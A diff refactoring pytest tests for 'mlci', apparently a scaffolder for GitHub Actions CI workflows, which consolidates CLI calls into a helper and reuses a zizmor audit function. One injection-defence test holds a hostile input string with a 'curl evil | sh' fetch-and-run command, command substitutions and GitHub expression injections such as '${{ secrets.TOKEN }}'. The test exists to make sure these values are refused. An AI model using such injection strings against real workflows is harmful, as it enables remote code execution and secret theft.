@@ -14,7 +14,7 @@ from typing import Any
 
 import pytest
 import yaml
-from conftest import REPO, run_cli
+from conftest import REPO, scaffold
 
 from mlci import __version__, pipeline
 from mlci.config import load_project
@@ -38,24 +38,21 @@ def tool(name: str) -> str:
     return which
 
 
-def scaffold(root: Path, target: str, actions: str, retrain: str, *extra: str) -> Path:
+def scaffold_combo(root: Path, target: str, actions: str, retrain: str) -> Path:
     data = ["--data", f"actions={actions}"]
     if actions == "remote":
         data += ["--data", "mlci_repository=mlci-dev/mlci", "--data", f"mlci_ref={SHA}"]
     if retrain == "retrain":
         data += ["--data", "retrain_cron=0 3 * * 1"]
     name = f"{target}-{actions}-{retrain}"
-    assert (
-        run_cli("new", name, "--defaults", "--no-git", "--target", target, "--output-dir", str(root), *data, *extra)
-        == 0
-    )
+    assert scaffold(name, root, "--target", target, *data) == 0
     return root / name
 
 
 @pytest.fixture(scope="module")
 def rendered(tmp_path_factory: pytest.TempPathFactory) -> dict[tuple[str, str, str], Path]:
     root = tmp_path_factory.mktemp("matrix")
-    return {combo: scaffold(root, *combo) for combo in COMBOS}
+    return {combo: scaffold_combo(root, *combo) for combo in COMBOS}
 
 
 def github_files(project: Path) -> dict[str, str]:
@@ -77,26 +74,25 @@ def test_golden_render(rendered: dict[tuple[str, str, str], Path], combo: tuple[
     assert files == expected
 
 
-def test_zizmor_pedantic_finds_nothing(rendered: dict[tuple[str, str, str], Path]) -> None:
+def zizmor(*targets: str) -> subprocess.CompletedProcess[str]:
+    """zizmor's strictest offline audit; without a GitHub token it can never go online."""
     env = {k: v for k, v in os.environ.items() if k not in ("GITHUB_TOKEN", "GH_TOKEN", "ZIZMOR_GITHUB_TOKEN")}
-    targets = [str(p / ".github") for p in rendered.values()] + [str(REPO / "actions")]
-    done = subprocess.run(
-        [
-            tool("zizmor"),
-            "--offline",
-            "--persona",
-            "pedantic",
-            "--strict-collection",
-            "--format",
-            "plain",
-            "--no-progress",
-            *targets,
-        ],
-        capture_output=True,
-        text=True,
-        env=env,
-        check=False,
-    )
+    command = [
+        tool("zizmor"),
+        "--offline",
+        "--persona",
+        "pedantic",
+        "--strict-collection",
+        "--format",
+        "plain",
+        "--no-progress",
+        *targets,
+    ]
+    return subprocess.run(command, capture_output=True, text=True, env=env, check=False)
+
+
+def test_zizmor_pedantic_finds_nothing(rendered: dict[tuple[str, str, str], Path]) -> None:
+    done = zizmor(*(str(p / ".github") for p in rendered.values()), str(REPO / "actions"))
     assert done.returncode == 0, done.stdout + done.stderr
     assert "No findings to report" in done.stdout + done.stderr
 
@@ -216,18 +212,7 @@ def test_workflows_parse_back_into_the_pipeline_model(
 def test_hostile_answers_never_reach_a_script(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
     hostile = 'x"; curl evil | sh; echo "${{ github.event.issue.title }}" $(id) `id`\nrun: evil'
     assert (
-        run_cli(
-            "new",
-            "safe-name",
-            "--defaults",
-            "--no-git",
-            "--output-dir",
-            str(tmp_path),
-            "--data",
-            f"description={hostile}",
-            "--data",
-            "author=${{ secrets.TOKEN }}",
-        )
+        scaffold("safe-name", tmp_path, "--data", f"description={hostile}", "--data", "author=${{ secrets.TOKEN }}")
         == 0
     )
     project = tmp_path / "safe-name"
@@ -239,19 +224,7 @@ def test_hostile_answers_never_reach_a_script(tmp_path: Path, capsys: pytest.Cap
                 assert "${{" not in step.get("run", "")
     # A value that does reach a workflow (the install spec) is refused when a shell or GitHub
     # would interpret it.
-    assert (
-        run_cli(
-            "new",
-            "other-name",
-            "--defaults",
-            "--no-git",
-            "--output-dir",
-            str(tmp_path),
-            "--data",
-            "mlci_install=mlci ${{ github.event.issue.title }}",
-        )
-        == 2
-    )
+    assert scaffold("other-name", tmp_path, "--data", "mlci_install=mlci ${{ github.event.issue.title }}") == 2
     err = capsys.readouterr().err
     assert re.search(r"mlci\.yaml:\d+: 'ci.mlci_install' is 'mlci \$\{\{ github.event.issue.title \}\}'", err), err
     assert not (tmp_path / "other-name").exists()
@@ -262,7 +235,7 @@ def test_remote_actions_need_a_pinned_ref(tmp_path: Path, capsys: pytest.Capture
         answers = [
             arg for item in ("actions=remote", "mlci_repository=mlci-dev/mlci", *data) for arg in ("--data", item)
         ]
-        return run_cli("new", "remote-name", "--defaults", "--no-git", "--output-dir", str(tmp_path), *answers)
+        return scaffold("remote-name", tmp_path, *answers)
 
     assert new() == 2
     assert "ci.actions: remote needs ci.mlci_ref" in capsys.readouterr().err
@@ -272,22 +245,7 @@ def test_remote_actions_need_a_pinned_ref(tmp_path: Path, capsys: pytest.Capture
 
 
 def test_own_workflows_are_audited_clean_and_self_test_every_action() -> None:
-    env = {k: v for k, v in os.environ.items() if k not in ("GITHUB_TOKEN", "GH_TOKEN", "ZIZMOR_GITHUB_TOKEN")}
-    done = subprocess.run(
-        [
-            tool("zizmor"),
-            "--offline",
-            "--persona",
-            "pedantic",
-            "--strict-collection",
-            "--no-progress",
-            str(REPO / ".github"),
-        ],
-        capture_output=True,
-        text=True,
-        env=env,
-        check=False,
-    )
+    done = zizmor(str(REPO / ".github"))
     assert done.returncode == 0, done.stdout + done.stderr
     done = subprocess.run(
         [tool("actionlint"), "-shellcheck", tool("shellcheck")], cwd=REPO, capture_output=True, text=True, check=False
